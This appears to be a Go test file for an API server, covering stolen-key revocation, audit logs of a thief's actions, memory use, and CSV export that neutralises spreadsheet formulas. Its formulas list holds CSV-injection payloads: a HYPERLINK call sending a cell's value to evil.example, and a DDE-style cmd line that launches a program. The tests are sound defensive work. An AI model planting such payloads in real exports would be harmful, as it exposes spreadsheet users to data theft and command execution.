package edge

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"math"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"testing"

	"kindex/builder/suite"
	"kindex/edge/apikey"
	"kindex/edge/storage"
	"kindex/edge/storage/storagetest"
)

// forgetScopes turns a key into one that was created before scopes existed.
func forgetScopes(t *testing.T, s *served, id string) {
	t.Helper()
	suite.Check(t, storagetest.Exec(s.state.String(), "UPDATE api_keys SET scopes = NULL WHERE id = '"+id+"'"))
}

// auditOf returns an account's audit log as shown to its owner, one line per entry.
func (s *served) auditOf(t *testing.T, owner apikey.Secret) (lines []string) {
	t.Helper()
	a := s.ask(t, "GET", "/api/developer/audit?limit=100", "x-api-key", owner.Reveal())
	var log struct {
		Data []struct {
			Action, Target, Address, Detail string
			Actor                           struct{ Kind, ID, Name string }
		}
	}
	if err := json.Unmarshal(a.body, &log); err != nil || a.status != 200 {
		t.Fatalf("%v %d %s", err, a.status, a.body)
	}
	for _, e := range log.Data {
		lines = append(lines, strings.Join([]string{e.Action, e.Actor.Kind, e.Actor.ID, e.Target, e.Address, e.Detail}, " "))
	}
	return lines
}

// TestSecurityReportedKey: a thief has used up the limits of the account and of the IP address.
// Still, anyone who has the key can revoke it, it stops working everywhere, and
// its owner sees who revoked it.
func TestSecurityReportedKey(t *testing.T) {
	suite.InTest(t)
	_, out := smallBuild(t, 3)
	var log suite.Log
	storagetest.Each(t, func(t *testing.T, open func() *storage.State) {
		var edges []*served
		for _, limit := range []int64{1, 1_000_000} { // on the second edge the limit is not reached, so the error is about the key itself
			edges = append(edges, serveWith(t, Options{Dir: out, State: open(), LimitAnonymous: limit, LimitKey: 100 * limit, LogRequests: true,
				Log: slog.New(slog.NewJSONHandler(&log, nil))}))
		}
		s := edges[0]
		owner, _ := s.newKey(t, "ada")
		stolen, k := s.newKey(t, "ada")
		use := func(s *served) answer { return s.ask(t, "GET", "/api/categories", "x-api-key", stolen.Reveal()) }
		use(edges[1])
		for use(s).status != 429 {
		}
		for s.ask(t, "GET", "/api/categories").status != 429 {
		}
		report := func(key string) answer {
			t.Helper()
			return suite.Must(s.write("POST", keysPath+"/revoke", "", `{"key":"`+key+`"}`))(t)
		}
		if a := report(stolen.Reveal()); a.status != 204 || len(a.body) > 0 {
			t.Fatalf("%d %s", a.status, a.body)
		}
		if a := use(edges[1]); !strings.Contains(string(a.body), "revoked") {
			t.Fatalf("the key still works after it was reported: %s", a.body)
		}
		report(stolen.Reveal()).want(t, 204)
		unknown := apikey.Generate().Reveal()
		for key, status := range map[string]int{unknown: 404, unknown[:40] + "!": 400, unknown[3:]: 400, "": 400} {
			report(key).want(t, status).lacks(t, unknown[8:30])
		}
		list, _, err := s.state.AuditLog(t.Context(), k.AccountID, 0, 100)
		reports := 0
		for _, e := range list {
			if e.Action == "key.reported" {
				if reports++; e.Target != k.ID || e.Actor.Kind != "anyone" || e.Actor.Address != "127.0.0.1" {
					t.Errorf("%+v", e)
				}
			}
		}
		suite.Holds(t, err == nil && reports == 1, reports, "reports in the log", err)
		stillActive := suite.Must(s.state.Keys(t.Context(), k.AccountID))(t)
		suite.Holds(t, len(stillActive) == 1 && stillActive[0].Masked == owner.Masked(), stillActive)
		if text := log.String(); strings.Contains(text, stolen.Reveal()[3:30]) || !strings.Contains(text, keysPath+"/revoke") {
			t.Errorf("the log contains the key, or lacks the report: %s", text)
		}
	})
}

// TestAuditShowsTheAttack: the audit log of an account shows what a thief did with it, however
// the thief's key was created.
func TestAuditShowsTheAttack(t *testing.T) {
	suite.InTest(t)
	s := serve(t, 3)
	owner, _ := s.newKey(t, "ada")
	thief, id := s.newOverAPI(t, owner, `{"name":"all","scopes":["read","submit","webhooks","keys"]}`)
	_, more := s.newOverAPI(t, mustParse(t, thief), `{"name":"mine"}`)
	hook, err := s.write("POST", "/api/webhooks", thief, `{"url":"https://8.8.8.8/t0ken?secret=s3cret","events":["entity.created"]}`)
	suite.Require(t, err == nil && hook.status == 201, err, hook.status)
	var made struct{ ID, Secret string }
	suite.Check(t, json.Unmarshal(hook.body, &made))
	for _, path := range []string{"/api/webhooks/" + made.ID, keysPath + "?id=" + more} {
		s.send(t, "DELETE", path, thief, "").must(t, 204)
	}
	log := s.auditOf(t, owner)
	for i, want := range []string{"key.revoked key " + id + " " + more + " 127.0.0.1", "webhook.deleted key " + id + " " + made.ID + " 127.0.0.1",
		"webhook.created key " + id + " " + made.ID + " 127.0.0.1 8.8.8.8", "key.created key " + id + " " + more + " 127.0.0.1", "key.created key "} {
		suite.Holds(t, i < len(log) && strings.HasPrefix(log[i], want), "entry", i, want, log)
	}
	all := strings.Join(log, "\n")
	suite.LacksAll(t, all, thief[3:30], owner.Reveal()[3:30], made.Secret, "t0ken", "s3cret")
}

func mustParse(t *testing.T, key string) apikey.Secret {
	t.Helper()
	return suite.Must(apikey.Parse(key))(t)
}

// formulas are names that a spreadsheet would interpret as formulas.
var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"PyTorch")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"}

// TestFormulasInCSV: no cell in CSV for spreadsheets is a formula, and all strings are unchanged
// in CSV for programs.
func TestFormulasInCSV(t *testing.T) {
	content, dir := t.TempDir(), t.TempDir()
	writeContent(t, content, 3, 0)
	for i, name := range formulas {
		quoted := "'" + strings.ReplaceAll(name, "'", "''") + "'"
		writeFile(t, content, fmt.Sprintf("tool/formula-%d.yaml", i), strings.Replace(sheet(quoted, "nlp", 10, "provider: "+quoted+"\n"), "Finds things in heaps of data.", quoted, 1))
	}
	buildInto(t, content, dir, 3)
	h := serveWith(t, Options{Dir: dir, State: storagetest.SQLite(t)})
	for _, path := range []string{"entities?format=csv", "entities?format=csv&type=tool", "entities?format=csv&fields=name", "leaderboard?format=csv", "changelog?format=csv", "changelog?format=csv&type=tool"} {
		plain, safe := texts(t, h.ask(t, "GET", "/api/export/"+path)), texts(t, h.ask(t, "GET", "/api/export/"+path+"&csv=spreadsheet"))
		if len(plain) != len(safe) {
			t.Fatalf("%s: %d cells, %d in the spreadsheet form", path, len(plain), len(safe))
		}
		found := 0
		for i, cell := range plain {
			if isNumber := strings.Trim(cell, "-0123456789.") == ""; cell == "" || isNumber || !strings.ContainsRune("=+-@＝", []rune(cell)[0]) {
				suite.Equal(t, safe[i], cell, path)
				continue
			}
			found++
			suite.Equal(t, safe[i], "'"+cell, path, "the formula", cell)
		}
		if !strings.HasPrefix(path, "changelog") && found < len(formulas) {
			t.Errorf("%s: only %d formulas", path, found)
		}
		same := texts(t, h.ask(t, "GET", "/api/export/"+path+"&csv=plain"))
		suite.Holds(t, slices.Equal(same, plain), path, "csv=plain is a different file")
	}
	for _, path := range []string{"entities?csv=plain", "entities?format=json&csv=spreadsheet", "leaderboard?format=parquet&csv=spreadsheet", "changelog?format=csv&csv=excel"} {
		h.ask(t, "GET", "/api/export/"+path).want(t, http.StatusBadRequest)
	}
}

// texts returns the cells of a CSV response.
func texts(t *testing.T, a answer) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	suite.Require(t, err == nil && a.status == http.StatusOK, a.status, err)
	return slices.Concat(rows...)
}

// TestMemoryOfLicences: licences sent by strangers are not kept in memory.
func TestMemoryOfLicences(t *testing.T) {
	suite.InTest(t)
	n := suite.Pick(250, 1000)
	h := serveFew(t, Options{LimitKey: 100_000})
	key, _ := h.keyOf(t, "account")
	long := strings.Repeat("x", 180)
	send := func(licence func(i int) string) int64 {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		for i := range n {
			a := h.send(t, "POST", "/api/submit", key, fmt.Sprintf(`{"type":"tool","name":"X","license":%q}`, licence(i)))
			suite.Require(t, a.status == http.StatusBadRequest, a.status)
		}
		runtime.GC()
		runtime.GC() // the contents of a pool survive one garbage collection
		runtime.ReadMemStats(&after)
		return int64(after.HeapAlloc) - int64(before.HeapAlloc)
	}
	send(func(int) string { return long })
	other := int64(math.MaxInt64)
	for round := range 3 { // something else in this process may have allocated memory meanwhile
		other = min(other, send(func(i int) string { return fmt.Sprint(long, round, i) }))
	}
	suite.Holds(t, other <= int64(100*n), n, "different licences retain", other, "bytes")
}
